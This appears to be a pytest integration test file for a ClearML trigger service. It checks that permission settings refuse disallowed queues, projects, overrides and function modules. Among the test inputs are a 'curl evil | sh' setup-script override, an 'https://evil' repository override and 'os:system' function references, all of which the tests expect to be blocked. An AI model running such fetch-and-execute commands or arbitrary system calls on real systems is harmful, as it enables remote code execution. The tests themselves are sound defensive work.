"""What launches may be made of, for every way in which a trigger can come about."""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from tests.integration.stages.conftest import World
from triggers.actions.launching.permissions import LISTS, covers
from triggers.actions.overrides import parse_key
from triggers.clearml_api import server_now_ms
from triggers.ledger.deployment import at_work
from triggers.ledger.registry.registry import Entry
from triggers.model import Trigger, make_trigger
from triggers.operate.doctor.permissions import functions


def by_script(world: World, trigger: Trigger) -> None:
    world.declare(trigger)


def by_configuration(world: World, trigger: Trigger) -> None:
    entry = Entry(trigger, server_now_ms(world.api), 0, "configuration")
    world.ledger.registry.edit(lambda _, version: {trigger.id: replace(entry, version=version)})


def by_redis(world: World, trigger: Trigger) -> None:
    """As somebody would who has a client of Redis only."""
    entry = Entry(trigger, server_now_ms(world.api), 1, "anyone", declared=trigger.digest)
    client, keys = world.ledger.store.client, world.ledger.keys
    client.hset(keys.registry, trigger.id, entry.to_json())
    client.incr(keys.registry_version)


WAYS = [by_script, by_configuration, by_redis]
Way = Callable[[World, Trigger], None]


def fire(world: World, **settings: Any) -> tuple[list[str], list[str]]:
    """Let it fire: (ids launched, reasons of dead letters)."""
    ctx = world.context(**settings)
    world.fail_task()
    world.step(ctx)
    launched = [entry.task for entry in world.history("launched")]
    return launched, [entry.reason for entry in world.history("dead")]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    ("setting", "action", "said"),
    [
        ("allow_base_projects", {}, "the project of the base task="),
        ("allow_queues", {}, "schedule_queue='default'"),
        ("allow_target_projects", {"target_project": "Elsewhere"}, "target_project='Elsewhere'"),
        ("allow_target_projects", {}, "target_project="),
        ("allow_overrides", {"overrides": {"container.setup_shell_script": "curl evil | sh"}}, "setup_shell_script"),
        ("allow_overrides", {"overrides": {"script.repository": "https://evil"}}, "script.repository"),
    ],
)
def test_what_a_setting_does_not_allow_is_a_dead_letter_and_leaves_nothing_behind(
    world: World, way: Way, setting: str, action: dict[str, Any], said: str
) -> None:
    way(world, world.trigger(action=action))
    launched, dead = fire(world, **{setting: ("Only/This", "Args/")})
    assert launched == []
    (reason,) = dead
    assert said in reason
    assert f"TRIGGERS_{setting.upper()} has Only/This" in reason
    assert world.clones() == []
    assert world.queue_entries() == []
    assert not world.call("projects.get_all", name="^Elsewhere$", search_hidden=True)["projects"]


@pytest.mark.parametrize("way", WAYS)
def test_what_the_settings_allow_is_launched(world: World, way: Way) -> None:
    project = world.call("projects.create", name="Team/Base", description="")["id"]
    world.call("tasks.edit", task=world.base, project=project, force=True)
    overrides = {"Args/a": "2", "script.branch": "main"}
    way(world, world.trigger(action={"target_project": "Team/Launches", "overrides": overrides}))
    launched, dead = fire(
        world,
        allow_base_projects=("Team/*",),
        allow_queues=("default", "other"),
        allow_target_projects=("Team/Launches",),
        allow_overrides=("Args/", "script.branch"),
    )
    assert dead == []
    assert len(launched) == 1


def test_a_queue_is_known_however_the_trigger_or_the_setting_names_it(world: World) -> None:
    (queue,) = world.call("queues.get_all", name="^default$")["queues"]
    world.declare(world.trigger(action={"queue": queue["id"]}))
    assert len(fire(world, allow_queues=("default",))[0]) == 1
    world.declare(world.trigger(action={"queue": "default"}))
    assert len(fire(world, allow_queues=(queue["id"],))[0]) == 2


def test_a_project_cannot_be_slipped_in_by_an_override_or_by_reuse(world: World) -> None:
    foreign = world.call("projects.create", name="Foreign", description="")["id"]
    world.declare(
        world.trigger(name="override", action={"overrides": {"project": foreign}}),
        world.trigger(name="reuse", action={"reuse_task": True}),
    )
    launched, dead = fire(world, allow_target_projects=("Mine",))
    assert launched == []
    assert len(dead) == 2


@pytest.mark.parametrize("way", WAYS)
def test_with_no_sections_what_the_configuration_changed_before_is_not_launched(world: World, way: Way) -> None:
    way(world, world.trigger())
    launched, dead = fire(world, sections="none")
    assert bool(dead) == (way is by_configuration)
    assert bool(launched) != bool(dead)


@pytest.mark.parametrize(
    ("prefix", "covered", "others"),
    [
        ("Args/", ["Args/a", "hyperparams.Args.a"], ["Args2/a", "script.branch", "name"]),
        ("Args/lr", ["Args/lr"], ["Args/lr2", "Args/a"]),
        ("script.branch", ["script.branch"], ["script.repository", "script.binary"]),
        ("container", ["container.image", "container.arguments"], ["configuration.container"]),
        ("name", ["name"], ["comment", "project"]),
        ("hyperparams.Args", ["Args/a"], ["Other/a"]),
        ("none", [], ["name", "Args/a", "script.branch"]),
    ],
)
def test_a_prefix_covers_whole_parts_of_a_path_however_it_is_spelled(
    prefix: str, covered: list[str], others: list[str]
) -> None:
    assert all(covers(prefix, parse_key(key)) for key in covered)
    assert not any(covers(prefix, parse_key(key)) for key in others)


def test_every_limit_is_one_that_workers_say(world: World) -> None:
    assert set(LISTS) == {name for name in type(world.settings).model_fields if name.startswith("allow_")}
    assert set(at_work.POLICY) == {"sections", "function_modules", *LISTS}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    ("parameters", "refused"),
    [({"Args/a": 2}, ""), ({"a": 2}, "a"), ({"General/a": 2}, "General/a"), ({"Args/a": 2, "Hydra/x": 1}, "Hydra/x")],
)
def test_parameters_are_limited_by_the_sections_that_they_lie_in(
    world: World, way: Way, parameters: dict[str, Any], refused: str
) -> None:
    way(world, world.trigger(action={"parameters": parameters}))
    launched, dead = fire(world, allow_overrides=("Args/",))
    assert bool(launched) is not bool(refused)
    if refused:
        (reason,) = dead
        assert f"task_parameters={refused!r} is not allowed here" in reason
        assert world.clones() == []


def test_a_parameter_of_an_old_task_lies_where_the_task_has_it(world: World) -> None:
    item = {"section": "Args", "name": "a", "value": "1", "type": "legacy"}
    world.call("tasks.edit_hyper_params", task=world.base, hyperparams=[item], force=True)
    world.declare(world.trigger(action={"parameters": {"a": 2}}))
    launched, _ = fire(world, allow_overrides=("Args/",))
    assert len(launched) == 1


def calling(reference: str) -> Trigger:
    action = {"type": "function", "name": reference, "reference": reference}
    return make_trigger("task", name="calls", action=action, trigger_on_status=["failed"])


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    ("reference", "allowed"),
    [
        ("os:system", ()),
        ("os:system", ("tests.*",)),
        ("posix:system", ("os",)),
        ("tests.crash.functions:os.system", ("tests.*",)),
        ("tests.crash.functions:note", ("tests",)),
        ("tests.crash.functions:note", ("tests.crash.func",)),
        ("tests.crash.functions:note", ("tests.crash.func.*",)),
    ],
)
def test_workers_call_functions_of_named_modules_only(
    world: World, way: Way, reference: str, allowed: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    called: list[Any] = []
    monkeypatch.setattr(os, "system", called.append)
    way(world, calling(reference))
    _, dead = fire(world, function_modules=allowed)
    (reason,) = dead
    assert "TRIGGERS_FUNCTION_MODULES" in reason
    assert called == []


@pytest.mark.parametrize("allowed", ["builtins", "builtins.*"])
def test_workers_call_functions_of_modules_that_are_named(world: World, allowed: str) -> None:
    world.declare(calling("builtins:repr"))
    fire(world, function_modules=(allowed,))
    assert [entry.what for entry in world.history() if entry.what in ("launched", "dead")] == ["launched"]


def test_a_module_that_may_not_be_imported_is_not_imported(world: World) -> None:
    """Importing runs its code."""
    sys.modules.pop("this", None)
    world.declare(calling("this:d"))
    fire(world)
    assert "this" not in sys.modules


def test_doctor_names_what_workers_may_not_call() -> None:
    (finding,) = functions([calling("os:system"), calling("builtins:repr")], ["builtins"])
    assert finding.level == "bad"
    assert "os:system" in finding.words
